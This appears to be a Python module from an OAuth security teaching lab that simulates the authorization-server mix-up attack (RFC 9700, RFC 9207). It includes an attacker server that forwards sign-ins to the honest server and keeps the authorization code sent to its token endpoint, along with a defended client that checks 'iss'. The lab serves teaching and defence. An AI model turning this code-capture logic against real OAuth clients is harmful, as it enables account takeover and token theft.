"""Lab "mix-up": the attacker's authorization server forwards the sign-in to the
honest one, and a client that ignores ``iss`` sends the code to the attacker
(RFC 9700 §4.4, RFC 9207)."""

from __future__ import annotations

import hmac
import json
import secrets
from collections.abc import Mapping
from urllib.parse import urlencode

import requests

from flowlab.core.runner.capture import capture_session
from flowlab.core.runner.capture import exchange_of
from flowlab.labs import client
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.page import ATTACKER_HOST as HOST
from flowlab.labs.page import NOT_FOUND
from flowlab.labs.page import Answer
from flowlab.labs.page import Incoming
from flowlab.labs.page import redirect
from flowlab.labs.store import Run

RIVAL_CLIENT_ID = "playlistpal"  # the client's registration at the attacker's AS


def rival_issuer(run: Run, config: Mapping) -> str:
    """The attacker's issuer URL, a second authorization server the client uses."""
    return f"{config['LABS_ATTACKER_URL']}/labs/{run.lab}/{run.id}/as"


def start_login(run: Run, lab: Lab, config: Mapping) -> str:
    """The user picks "Sign in with Rival Music": the client remembers which server
    it started with, and uses its one shared callback (RFC 9700 §4.4.1)."""
    state = run.client["state"] = secrets.token_urlsafe(24)
    run.client["issuer"] = rival_issuer(run, config)
    params = {"response_type": "code", "client_id": RIVAL_CLIENT_ID,
              "scope": client.SCOPE, "redirect_uri": client.redirect_uri(run),
              "state": state}
    return run.client["issuer"] + "/authorize?" + urlencode(params)


def serve(run: Run, lab: Lab, endpoint: str, config: Mapping,
          sent: Incoming) -> Answer:
    """The attacker's authorization server: ``authorize`` forwards the browser to
    the honest sandbox with the client's id there; ``token`` keeps the code."""
    if endpoint == "authorize":
        run.record("rival-authorize", "attacker", "front", sent.exchange())
        params = {**sent.args, **client.authorize_params(
            run, config, sent.args.get("state", ""))}
        return redirect(client.authorize_url(run, lab) + "?" + urlencode(params), 302)
    if endpoint == "token" and sent.method == "POST":
        run.attacker["code"] = sent.form.get("code")
        body = {"error": "invalid_grant", "error_description": "Try again later"}
        return Answer(400, json.dumps(body), {"Content-Type": "application/json",
                                              "Cache-Control": "no-store"})
    return NOT_FOUND


def finish_login(run: Run, lab: Lab, config: Mapping, sent: Incoming) -> None:
    """The shared callback: state checked; the defended client also checks that
    ``iss`` names the server this sign-in started at (RFC 9207 §2.4)."""
    args = sent.args
    run.record("callback", "victim", "front", sent.exchange())
    if not client.state_ok(run, lab, args.get("state")) or not args.get("code"):
        run.client["refused"] = True
        return
    started, sent_iss = run.client.get("issuer", ""), args.get("iss")
    # Against the learner's server the client has only Rival Music's word, which
    # promises no iss: it checks one that comes, and cannot ask for one that does
    # not (RFC 9207 §2.4).
    expects = sent_iss is not None or lab.variants[run.variant].issuer != "weak"
    if lab.variants[run.variant].check_iss and expects and not hmac.compare_digest(
            sent_iss or "", started):
        run.client["refused"] = (f"{lab.client_name} refused the callback: iss "
                                 "names another server than the one it started at.")
        return
    form = {"grant_type": "authorization_code", "code": args["code"],
            "redirect_uri": client.redirect_uri(run)}
    session = capture_session(requests.Session())
    response = session.post(started + "/token", auth=(RIVAL_CLIENT_ID, "rival-secret"),
                            data=form, timeout=config["HTTP_TIMEOUT"],
                            allow_redirects=False)
    run.record("token", "victim", "back", exchange_of(session, response))


def attacker_view(run: Run, lab: Lab) -> dict:
    """What the attacker's token endpoint received."""
    if not run.attacker.get("code"):
        return {}
    return {"heading": "Alice's code, sent to the attacker's token endpoint",
            "text": "The client sent it here, believing this server had answered:",
            "shown": f"code={run.attacker['code']}"}


def succeeded(run: Run) -> bool | None:
    """On the wire: did the client send a code to the attacker's token endpoint
    (True)? False when a callback answering the sign-in it started (its pending
    state) brought a code and an ``iss`` of another server, and no token request
    followed; None until then (a cancel, or a callback reloaded, decides nothing)."""
    if any(e.exchange.url.startswith(f"http://{HOST}") and wire.form(e).get("code")
           for e in run.entries("token")):
        return True
    pending = started = None
    for entry in run.trace:
        if entry.key == "authorize":
            pending = wire.location(entry).get("state")
            started = entry.exchange.response.header("Location").split("?")[0]
        elif entry.key == "callback":
            sent = wire.query(entry)
            if (pending and sent.get("state") == pending and sent.get("code")
                    and f"{sent.get('iss')}/authorize" != started
                    and not any(later.key == "token"
                                and wire.form(later).get("code") == sent["code"]
                                for later in wire.since(run, entry))):
                return False
            pending = None  # the client keeps a state for one callback only
    return None
